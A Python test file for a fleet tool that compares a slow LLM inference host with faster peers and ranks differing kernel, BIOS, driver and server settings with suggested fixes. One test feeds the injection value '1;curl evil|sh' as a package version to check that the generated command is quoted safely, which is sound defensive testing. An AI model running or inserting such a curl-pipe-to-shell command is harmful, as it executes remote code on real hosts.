"""A slow host and its faster peers: the differences, ranked, each with evidence and cure."""

import json
from dataclasses import replace

import pytest

from strixfleet.findings.results import HostReport
from strixfleet.findings.verdict import Grade, Verdict
from strixfleet.fleet.session import ProbedHost
from strixfleet.inventory.schema.fleet_model import Connection, Host
from strixfleet.inventory.schema.settings import HostSettings
from strixfleet.managed.compiled import compile_host
from strixfleet.managed.facts import ControllerFacts
from strixfleet.managed.llama_cpp.build import MANIFEST
from strixfleet.on_host.questions import Answer, Answers, Ask, Json, Question
from strixfleet.speed.bench_all import compared_with_peers
from strixfleet.speed.judge.comparable_facts import comparable_facts, options_of
from strixfleet.speed.judge.peers import Peer, compare_with_fastest, explained_by_peers
from tests.cases.aspect_cases import ASPECT_CASES, load_case


CASE = ASPECT_CASES / "gpu_stack/in_sync.yml"
SLOW = Verdict("main", "m", "vulkan", "GPU", "tg128", 20.0, 50.0, 40.0, 60.0, Grade.SLOW, "20 of 50")
FAST = replace(SLOW, measured_tps=50.0, grade=Grade.OK)
FACTS = {"gpu_stack:kernel": "6.18.9", "bios:version": "1.05", "gpu_stack:mesa-vulkan-drivers": "25.3"}


def peer(name: str, verdict: Verdict = FAST, **facts: str) -> Peer:
    renamed = {key.replace("__", ":", 1): value for key, value in facts.items()}
    return Peer(
        name,
        "strix-halo-128",
        {**FACTS, **renamed},
        {"main": {"llama_server:ubatch-size": "512"}},
        {"m": ("f" * 64,)},
        frozenset(),
        (verdict,),
    )


MINE = peer("strix-1", SLOW)


def causes(mine: Peer, *others: Peer) -> list[str]:
    found = compare_with_fastest(mine, SLOW, others)
    return [cause.cause for cause in found.causes] if found else []


def test_differences_are_ranked_with_evidence_and_cure() -> None:
    other = peer("strix-2", kernel__amd_iommu="off", bios__version="1.07", gpu_stack__kernel="6.19.1")
    found = compare_with_fastest(MINE, SLOW, [other])
    assert found is not None
    assert [cause.cause for cause in found.causes] == [
        "gpu_stack:kernel",
        "bios:version",
        "kernel:amd_iommu",
    ]
    iommu = found.causes[-1]
    assert iommu.evidence == "strix-2 has off, this host has nothing; strix-2 reaches 50.00 t/s"
    assert "`amd_iommu: off` in kernel_arguments" in iommu.cure
    assert "strixfleet provision -l strix-1 --reboot ask" in iommu.cure
    assert "gpu_stack_kernel_floor: 6.19.1" in found.causes[0].cure


def test_a_cure_is_safe_to_paste_whatever_the_other_host_says() -> None:
    evil = {**FACTS, "gpu_stack:mesa-vulkan-drivers": "1;curl evil|sh"}
    other = replace(peer("strix-2"), facts=evil)
    found = compare_with_fastest(MINE, SLOW, [other])
    assert found is not None
    (mesa,) = found.causes
    assert mesa.cure == "on strix-1: apt install mesa-vulkan-drivers='1;curl evil|sh'"


def test_options_of_the_server_are_compared_for_the_instance_that_serves_the_file() -> None:
    other = replace(
        peer("strix-2"),
        options={"chat": {"llama_server:ubatch-size": "2048"}},
        verdicts=(replace(FAST, instance="chat"),),
    )
    assert causes(MINE, other) == ["llama_server:ubatch-size"]


@pytest.mark.parametrize(
    "other",
    [
        replace(peer("strix-2", bios__version="2"), profile="strix-halo-64"),
        replace(peer("strix-2", bios__version="2"), models={"m": ("e" * 64,)}),
        peer("strix-2", replace(FAST, grade=Grade.UNSTABLE), bios__version="2"),
        peer("strix-2", replace(FAST, measured_tps=20.5), bios__version="2"),  # noise
        peer("strix-2", replace(FAST, test="pp512"), bios__version="2"),
    ],
)
def test_only_clearly_faster_hosts_alike_say_anything(other: Peer) -> None:
    assert compare_with_fastest(MINE, SLOW, [other]) is None


def test_hosts_without_a_profile_are_not_alike() -> None:
    nameless = replace(MINE, profile=None)
    assert compare_with_fastest(nameless, SLOW, [replace(peer("strix-2"), profile=None)]) is None


def test_what_another_fast_host_has_as_well_is_not_to_blame() -> None:
    best = peer("strix-2", bios__version="1.07", gpu_stack__kernel="6.19.1")
    second = peer("strix-3", replace(FAST, measured_tps=45.0), bios__version="1.07")
    assert causes(MINE, best) == ["gpu_stack:kernel", "bios:version"]
    assert causes(MINE, second, best) == ["bios:version"]


def test_what_the_host_is_told_of_anyway_is_not_said_twice() -> None:
    other = peer("strix-2", bios__version="1.07")
    assert causes(replace(MINE, reported=frozenset({"bios:version"})), other) == []


def test_what_was_read_on_one_host_only_tells_nothing() -> None:
    assert causes(MINE, peer("strix-2", tuning__profile="accelerator-performance")) == []


def test_verdict_and_rows_name_the_peer() -> None:
    report = HostReport("strix-1", reachable=True, verdicts=(SLOW,), extra={"reasons": [{"cause": "hot"}]})
    told = explained_by_peers(MINE, report, [peer("strix-2", bios__version="1.07")])
    assert "20 of 50; compared with strix-2: 1. bios:version (strix-2 has 1.07" in told.verdicts[0].reason
    rows = told.extra["reasons"]
    assert isinstance(rows, list)
    assert [row["cause"] for row in rows if isinstance(row, dict)] == ["hot", "bios:version"]
    same = explained_by_peers(MINE, report, [peer("strix-2")])
    assert same.verdicts[0].reason.endswith("strix-2 reaches 50.00 t/s, and no difference was found")


def host(name: str) -> Host:
    models = [{"name": "m", "host_path": "/m.gguf", "sha256": "f" * 64}]
    instances = [{"name": "main", "model": "m", "port": 8080}]
    rows = {"hardware_profile": "sandbox", "llama_models": models, "llama_server_instances": instances}
    return Host(name, Connection("127.0.0.1"), HostSettings.model_validate(rows))


def seen(name: str, **changed: Json) -> ProbedHost:
    answers = load_case(CASE).answers
    line = Question(Ask.READ, "/proc/cmdline")
    mesa = Question(Ask.PACKAGE, "mesa-vulkan-drivers")
    asked = {question: answers[question] for question in answers}
    asked[line] = Answer(changed.get("cmdline", "BOOT_IMAGE=/vmlinuz root=UUID=1 ttm.pages_limit=9 ro quiet"))
    asked[MANIFEST] = Answer(changed.get("manifest"))
    asked[mesa] = Answer(changed.get("mesa", answers[mesa].value))
    answers = Answers(asked)
    state = compile_host(host(name), answers, ControllerFacts())
    return ProbedHost(state, answers, state.differences(answers), 0.1)


def test_facts_are_what_the_probe_read() -> None:
    one = seen("h", cmdline="BOOT_IMAGE=/x root=UUID=2 ro amd_iommu=off ttm.pages_limit=1 nosmt")
    facts = comparable_facts(one.state, one.answers, one.differences)
    assert facts["gpu_stack:mesa-vulkan-drivers"] == "25.0.7-2+deb13u1"
    assert facts["gpu_stack:kernel"] == one.state.facts.kernel_release
    words = {key: value for key, value in facts.items() if key.startswith("kernel:")}
    words.pop("kernel:gtt_total", None)
    words.pop("kernel:carve_out", None)
    assert words == {"kernel:amd_iommu": "off", "kernel:nosmt": "set"}


@pytest.mark.parametrize("backend", ["cpu", "vulkan"])
def test_options_are_those_of_the_build_that_runs(backend: str) -> None:
    """The inventory may wish another backend already; servers follow the current build."""
    rest = {"id": "b1-x-00000000", "ref": "b1", "commit": "c", "definitions": {}, "files": {"a": "b"}}
    text = json.dumps(rest | {"backend": backend, "build_number": 1})
    one = seen("h", manifest=text)
    (instance,) = one.state.host.settings.llama_server_instances
    options = options_of(one.state, instance)
    assert ("llama_server:n-gpu-layers" in options or "llama_server:device" in options) is (backend != "cpu")


def test_hosts_of_one_run_are_held_against_each_other() -> None:
    hosts = {"a": seen("a"), "b": seen("b", mesa="25.3.1-1", cmdline="root=UUID=7 amd_iommu=off")}
    reports = {
        "a": HostReport("a", reachable=True, verdicts=(SLOW,)),
        "b": HostReport("b", reachable=True, verdicts=(FAST,)),
    }
    told = compared_with_peers(reports, hosts)
    assert told["b"] == reports["b"]
    reason = told["a"].verdicts[0].reason
    assert "compared with b: 1. gpu_stack:mesa-vulkan-drivers (b has 25.3.1-1, this host has 25.0.7" in reason
    assert "2. kernel:amd_iommu (b has off" in reason


def test_no_host_is_its_own_peer() -> None:
    reports = {
        "a": HostReport("a", reachable=True, verdicts=(SLOW, replace(FAST, instance="second"))),
        "b": HostReport("b", reachable=True, verdicts=(SLOW,)),
    }
    told = compared_with_peers(reports, {"a": seen("a"), "b": seen("b")})
    assert told["a"].verdicts == reports["a"].verdicts
    assert "a reaches 50.00 t/s" in told["b"].verdicts[0].reason
